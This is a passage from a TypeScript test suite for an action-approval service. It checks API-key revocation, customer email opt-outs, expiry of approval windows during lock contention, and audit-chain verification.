      await revoker.query(`UPDATE "ApiKey" SET "revokedAt" = now() WHERE id = $1`, [third.id]);
      const run = cancelAction(t.db, { tenantId: a.id, actionId: waiting.actionId, actor: third.actor, apiKeyId: third.id }).then(() => null, (error: unknown) => error);
      await expect.poll(() => queuedBehind(revoker), { timeout: 30_000, interval: 20 }).toBeGreaterThanOrEqual(1);
      await revoker.query("COMMIT");
      expect(await run).toMatchObject({ code: "api_key_revoked" });
    } finally {
      await revoker.end();
    }
    expect((await t.db.action.findUniqueOrThrow({ where: { id: waiting.actionId } })).status).toBe("pending");
  });

  it("an opted-out customer's email is refused before review and says why", async () => {
    const p = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email",
      args: { to: "billing@umbrella.example", subject: "Reminder", body: "Please pay INV-1047.", invoice_number: "INV-1047" },
    });
    expect(p.state).toBe("denied");
    if (p.state !== "denied") return;
    expect(p.reason).toMatch(/opted out/);
    expect(await t.db.emailOutbox.count({ where: { tenantId: a.id, toAddress: "billing@umbrella.example" } })).toBe(0);
  });

  it("a customer who opts out after the approval gets no email: the re-read state differs, the approval is invalidated", async () => {
    const p = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email",
      args: { to: "ap@initech.example", subject: "Reminder", body: "Please pay INV-1045.", invoice_number: "INV-1045" },
    });
    if (p.state !== "pending") throw new Error("expected pending");
    await decideAction(t.db, { tenantId: a.id, actionId: p.actionId, verdict: "approve", payloadHash: p.payloadHash, reviewer: a.users.reviewer.member });
    await t.db.customer.updateMany({ where: { tenantId: a.id, externalRef: "CUST-002" }, data: { optOut: true, version: { increment: 1 } } });
    const invalidated = await refusal(executeAction(t.db, { tenantId: a.id, actionId: p.actionId, payloadHash: p.payloadHash, executor: { type: "requester" }, actor: actorOf(a) }));
    expect(invalidated.code).toBe("state_changed");
    expect(await t.db.emailOutbox.count({ where: { tenantId: a.id, toAddress: "ap@initech.example" } })).toBe(0);
    const action = await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } });
    // The fresh revision is judged against the new state: refused with the opt-out finding.
    expect(action.status).toBe("denied");
    expect(action.statusReason).toMatch(/opted out/);
    await t.db.customer.updateMany({ where: { tenantId: a.id, externalRef: "CUST-002" }, data: { optOut: false, version: { increment: 1 } } });
  });
});

describe("a window that closes while a vote, an execution or a cancel waits for the action's lock", () => {
  /** Closes the action's window three seconds from now, while `act` — begun before — waits behind its lock past that moment. */
  async function actingPastTheWindow(actionId: string, act: () => Promise<unknown>): Promise<unknown> {
    await t.db.$executeRaw`UPDATE "Action" SET "expiresAt" = clock_timestamp() + interval '3 seconds' WHERE id = ${actionId}::uuid`;
    const { expiresAt } = await t.db.action.findUniqueOrThrow({ where: { id: actionId } });
    const queued = await whileActionLocked(t.url, actionId, async (waiters) => {
      const run = act().then(() => null, (error: unknown) => error);
      await waiters(1);
      // Its transaction began while the window was open (else this would test nothing).
      expect(Date.now()).toBeLessThan(expiresAt!.getTime());
      while (Date.now() <= expiresAt!.getTime() + 100) await new Promise((resolve) => setTimeout(resolve, 50));
      return { run };
    });
    return queued.run;
  }

  it("is judged when the vote, the claim or a cancel runs, not when its transaction began: each is refused as expired", async () => {
    const voted = await pendingRefund(a, 2_210);
    const vote = await actingPastTheWindow(voted.actionId, () => decideAction(t.db, {
      tenantId: a.id, actionId: voted.actionId, verdict: "approve", payloadHash: voted.payloadHash, reviewer: a.users.reviewer.member,
    }));
    expect(vote).toMatchObject({ code: "expired", status: 409 });
    expect(await t.db.decision.count({ where: { actionId: voted.actionId } })).toBe(0);

    const approved = await pendingRefund(a, 2_220);
    await decideAction(t.db, { tenantId: a.id, actionId: approved.actionId, verdict: "approve", payloadHash: approved.payloadHash, reviewer: a.users.reviewer.member });
    const execution = await actingPastTheWindow(approved.actionId, () => executeAction(t.db, {
      tenantId: a.id, actionId: approved.actionId, payloadHash: approved.payloadHash, executor: { type: "requester" }, actor: actorOf(a),
    }));
    expect(execution).toMatchObject({ code: "expired", status: 409 });
    expect(await t.db.refund.count({ where: { tenantId: a.id, amountMinor: 2_220 } })).toBe(0);

    const { apiKey } = await createApiKey(t.db, { tenantId: a.id, name: "cancels-late", allowedTools: ["refund_invoice"], createdById: a.users.admin.id });
    const agent = { type: "api_key" as const, id: apiKey.id, label: apiKeyLabel(apiKey.name) };
    const proposed = await proposeAction(t.db, {
      tenantId: a.id, requester: { type: "api_key", apiKeyId: apiKey.id, label: agent.label }, tool: "refund_invoice",
      args: { invoice_number: "INV-1044", amount_minor: 2_230, reason: "Customer overpaid" },
    });
    const cancel = await actingPastTheWindow(proposed.actionId, () => cancelAction(t.db, { tenantId: a.id, actionId: proposed.actionId, actor: agent, apiKeyId: apiKey.id }));
    expect(cancel).toMatchObject({ code: "expired", status: 409 });
    expect((await t.db.action.findUniqueOrThrow({ where: { id: proposed.actionId } })).status).toBe("pending");
  });
});

describe("audit", () => {
  it("every event written by all of the above fits its type's schema", async () => {
    for (const tenant of [a, b]) await expectEventsToFitTheirSchemas(t.db, tenant.id);
  });

  it("the chain of every tenant verifies after all of the above", async () => {
    for (const tenant of [a, b]) {
      await sealAuditChain(t.db, tenant.id);
      const result = await verifyAuditChain(t.db, tenant.id, { kind: "full" });
      expect(result).toMatchObject({ ok: true, problems: [], unsealed: 0 });
      expect(result.checked).toBeGreaterThan(0);
    }
  });
});
